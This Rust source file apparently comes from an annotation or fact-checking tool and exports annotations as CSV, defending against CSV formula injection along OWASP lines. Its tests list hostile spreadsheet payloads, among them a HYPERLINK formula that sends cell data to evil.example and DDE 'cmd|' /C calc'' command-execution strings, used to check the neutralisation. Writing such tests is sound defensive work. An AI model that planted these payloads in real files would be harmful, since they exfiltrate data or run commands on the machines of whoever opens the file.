//! CSV for spreadsheets: RFC 4180, UTF-8 without a byte order mark, CRLF line ends, fields
//! quoted when they contain a comma, a quote or a line break.
//!
//! # Wire format
//!
//! A header row, then one row per annotation, in library order, with the columns of
//! [`COLUMNS`]:
//!
//! - `article`: the article's title; `url`: its source URL (empty when none);
//! - `kind`: `claim` or `quote`; `quote`: the exact quoted text;
//! - `start`, `end`: code point offsets in the article's canonical text;
//! - `note`; `tags`: joined with `; `;
//! - `verdict`: the verdict's label (`Mostly true`), empty for quotes;
//! - `claimant_speaker`: the claimant of a claim or the speaker of a quote;
//! - `evidence`: a claim's evidence links, or a quote's source link, joined with a space
//!   (links never contain spaces);
//! - `created`, `modified`: RFC 3339, UTC.
//!
//! # Formula neutralisation (CSV injection)
//!
//! Following OWASP's CSV-injection guidance, every cell except `start` and `end` goes through
//! [`neutralise`]: a cell whose first character, after any leading white space, is `=`, `+`,
//! `-`, `@`, a tab, a carriage return, a line feed, or one of the full-width forms `＝` `＋`
//! `－` `＠` gets a leading `'`, so that a spreadsheet shows it as text instead of running it as
//! a formula. This covers the title, the URL (an imported article's source URL is any text),
//! the quote, the note, the tags, the claimant, the evidence, and also the columns we fill
//! ourselves (`kind`, `verdict`, `created`, `modified`), which never start with one of those
//! characters today but are not numbers. `start` and `end` are written by us from unsigned
//! integers, so they can never start with `-` or any other of those characters and are left
//! as they are, so that a spreadsheet still reads them as numbers. Cells are quoted by the
//! `csv` crate when they contain a comma, a quote or a line break; the `'` is part of the
//! cell's text and survives a CSV reader.

use crate::core::library::Library;
use crate::core::model::Body;

/// The header row.
pub const COLUMNS: [&str; 13] = [
    "article",
    "url",
    "kind",
    "quote",
    "start",
    "end",
    "note",
    "tags",
    "verdict",
    "claimant_speaker",
    "evidence",
    "created",
    "modified",
];

/// Writes every annotation of `library` as CSV.
pub fn export(library: &Library) -> String {
    let mut w = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .from_writer(Vec::new());
    // Writing to a Vec cannot fail; errors are ignored rather than unwrapped.
    let _ = w.write_record(COLUMNS);
    let index = library.index();
    for a in &library.annotations {
        let article = index.article(a.article_id);
        let (verdict, evidence) = match &a.body {
            Body::Claim(c) => (
                if c.verdict.is_set() {
                    c.verdict.label()
                } else {
                    ""
                },
                c.evidence
                    .iter()
                    .map(|u| u.as_str())
                    .collect::<Vec<_>>()
                    .join(" "),
            ),
            Body::Quote(q) => (
                "",
                q.source
                    .as_ref()
                    .map(|u| u.as_str().to_owned())
                    .unwrap_or_default(),
            ),
        };
        // `start` and `end` are unsigned numbers written by us; every other cell is text and
        // is neutralised (see the module documentation).
        let record = [
            neutralise(article.map_or("", |x| x.title.as_str())),
            neutralise(article.and_then(|x| x.source_url.as_deref()).unwrap_or("")),
            neutralise(a.kind().as_str()),
            neutralise(&a.quote.exact),
            a.start.to_string(),
            a.end.to_string(),
            neutralise(&a.note),
            neutralise(&a.tags.join("; ")),
            neutralise(verdict),
            neutralise(a.who()),
            neutralise(&evidence),
            neutralise(&a.created.to_rfc3339()),
            neutralise(&a.modified.to_rfc3339()),
        ];
        let _ = w.write_record(&record);
    }
    let bytes = w
        .into_inner()
        .unwrap_or_else(|e| e.into_inner().get_ref().clone());
    String::from_utf8(bytes).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

/// The characters that make a spreadsheet read a cell as a formula (or, for tab, carriage
/// return and line feed, that some spreadsheets skip before one), after OWASP's CSV-injection
/// guidance, with the full-width forms that some spreadsheets fold to their ASCII ones.
pub const FORMULA_TRIGGERS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Whether a spreadsheet could read `cell` as a formula: skipping leading white space (which
/// some spreadsheets skip), the first character that is not white space or is itself one of
/// [`FORMULA_TRIGGERS`] (tab, carriage return, line feed) is one of them. So `=1`, ` =1`,
/// `\t1` and ` \n1` are formula-like; `1-2`, `a=b` and `'=1` are not.
pub fn is_formula_like(cell: &str) -> bool {
    cell.chars()
        .find(|c| !c.is_whitespace() || FORMULA_TRIGGERS.contains(c))
        .is_some_and(|c| FORMULA_TRIGGERS.contains(&c))
}

/// `cell` with a leading `'` when [`is_formula_like`], else `cell` unchanged. The result is
/// never formula-like, since it then starts with `'`.
pub fn neutralise(cell: &str) -> String {
    if is_formula_like(cell) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::model::{Annotation, ClaimFields, HttpUrl, Kind, Timestamp, Verdict};
    use crate::core::text::Article;
    use uuid::Uuid;

    #[test]
    fn golden_csv_with_commas_quotes_newlines_and_non_ascii() {
        let art = Article::new(
            Uuid::from_u128(1),
            "Çavuşoğlu, “allies”",
            Some("https://news.example/a?x=1,2".into()),
            "He said \"19,000\" strikes.\nThen 😀 =SUM(A1)",
        );
        let mut claim = Annotation::new(
            Uuid::from_u128(2),
            art.id,
            Kind::Claim,
            &art.text,
            8,
            25,
            Timestamp(1_795_000_000_000),
        );
        claim.note = "Line one\nline \"two\", end".into();
        claim.tags = vec!["Syria".into(), "Türkiye".into()];
        claim.body = Body::Claim(ClaimFields {
            claimant: "Mevlüt Çavuşoğlu".into(),
            verdict: Verdict::HalfTrue,
            evidence: ["https://a.example/1", "https://b.example/2"]
                .iter()
                .filter_map(|u| HttpUrl::parse(u).ok())
                .collect(),
        });
        let quote = Annotation::new(
            Uuid::from_u128(3),
            art.id,
            Kind::Quote,
            &art.text,
            33,
            41,
            Timestamp(0),
        );
        assert_eq!(quote.quote.exact, "=SUM(A1)");
        let lib = Library {
            articles: vec![art],
            annotations: vec![claim, quote],
        };
        let expected = concat!(
            "article,url,kind,quote,start,end,note,tags,verdict,claimant_speaker,evidence,created,modified\r\n",
            "\"Çavuşoğlu, “allies”\",\"https://news.example/a?x=1,2\",claim,\"\"\"19,000\"\" strikes.\",8,25,",
            "\"Line one\nline \"\"two\"\", end\",Syria; Türkiye,Half true,Mevlüt Çavuşoğlu,",
            "https://a.example/1 https://b.example/2,2026-11-18T11:06:40.000Z,2026-11-18T11:06:40.000Z\r\n",
            "\"Çavuşoğlu, “allies”\",\"https://news.example/a?x=1,2\",quote,'=SUM(A1),33,41,,,,,,",
            "1970-01-01T00:00:00.000Z,1970-01-01T00:00:00.000Z\r\n",
        );
        assert_eq!(export(&lib), expected);
    }

    /// Every hostile prefix, bare and after the leading white space variants, gets a `'`.
    #[test]
    fn hostile_cells_get_a_leading_quote() {
        let payloads = [
            "=1+1",
            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "-5 people",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\tplain",
            "\rplain",
            "\nplain",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
        ];
        let leading = ["", " ", "  ", "\u{A0}", "\u{3000}", " \t", "\n "];
        for p in payloads {
            for w in leading {
                let cell = format!("{w}{p}");
                assert!(is_formula_like(&cell), "{cell:?}");
                assert_eq!(neutralise(&cell), format!("'{cell}"), "{cell:?}");
                assert!(!is_formula_like(&neutralise(&cell)), "{cell:?}");
            }
        }
        for ok in [
            "ok",
            "19,000 strikes",
            "'=already",
            "a=b",
            "1-2",
            "",
            "   ",
            "https://a.example/-",
        ] {
            assert!(!is_formula_like(ok), "{ok:?}");
            assert_eq!(neutralise(ok), ok);
        }
    }

    /// A library whose title, URL, quote, note, tags, claimant and evidence are all hostile:
    /// read back with the `csv` crate, no cell of the export is formula-like, each text cell is
    /// its value with a leading `'`, and the offsets are plain numbers.
    #[test]
    fn every_text_column_of_the_export_is_neutralised() {
        let art = Article::new(
            Uuid::from_u128(1),
            "=HYPERLINK(\"https://evil.example\",\"Click\")",
            Some("=cmd|' /C calc'!A0".into()),
            "@SUM(A1) and more",
        );
        let mut claim = Annotation::new(
            Uuid::from_u128(2),
            art.id,
            Kind::Claim,
            &art.text,
            0,
            8,
            Timestamp(0),
        );
        claim.note = " +1+1".into();
        claim.tags = vec!["-tag".into(), "ok".into()];
        claim.body = Body::Claim(ClaimFields {
            claimant: "＝1+1".into(),
            verdict: Verdict::False,
            evidence: vec![],
        });
        let lib = Library {
            articles: vec![art],
            annotations: vec![claim],
        };
        let out = export(&lib);
        let mut r = ::csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(out.as_bytes());
        let rows: Vec<::csv::StringRecord> = r.records().filter_map(Result::ok).collect();
        assert_eq!(rows.len(), 1);
        let row = &rows[0];
        let expected = [
            "'=HYPERLINK(\"https://evil.example\",\"Click\")",
            "'=cmd|' /C calc'!A0",
            "claim",
            "'@SUM(A1)",
            "0",
            "8",
            "' +1+1",
            "'-tag; ok",
            "False",
            "'＝1+1",
            "",
            "1970-01-01T00:00:00.000Z",
            "1970-01-01T00:00:00.000Z",
        ];
        assert_eq!(row.iter().collect::<Vec<_>>(), expected);
        for cell in row.iter() {
            assert!(!is_formula_like(cell), "{cell:?}");
        }
    }

    proptest::proptest! {
        /// Any cell, neutralised and written with the `csv` crate, reads back as exactly the
        /// neutralised text, which is the cell itself or the cell after a `'`, and is never
        /// formula-like.
        #[test]
        fn neutralised_cells_round_trip(
            cell in proptest::prop_oneof![
                proptest::string::string_regex("[ \t\r\n\u{A0}\u{3000}]{0,3}[=+@\t\r\n\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}'\",a-]{0,3}.{0,12}").unwrap_or_else(|_| unreachable!()),
                proptest::prelude::any::<String>(),
            ]
        ) {
            let safe = neutralise(&cell);
            let prefixed = format!("'{cell}");
            proptest::prop_assert!(safe == cell || safe == prefixed, "{:?} -> {:?}", cell, safe);
            proptest::prop_assert!(!is_formula_like(&safe));
            let mut w = ::csv::WriterBuilder::new()
                .terminator(::csv::Terminator::CRLF)
                .from_writer(Vec::new());
            // After a header row, as in an export: a reader takes a byte order mark at the
            // very start of a file for an encoding mark, and the header keeps cells from there.
            proptest::prop_assert!(w.write_record(["cell", "end"]).is_ok());
            proptest::prop_assert!(w.write_record([safe.as_str(), "end"]).is_ok());
            let bytes = w.into_inner().unwrap_or_default();
            let mut r = ::csv::ReaderBuilder::new()
                .has_headers(true)
                .from_reader(bytes.as_slice());
            let rows: Vec<::csv::StringRecord> = r.records().filter_map(Result::ok).collect();
            proptest::prop_assert_eq!(rows.len(), 1);
            proptest::prop_assert_eq!(rows[0].iter().collect::<Vec<_>>(), vec![safe.as_str(), "end"]);
        }
    }
}
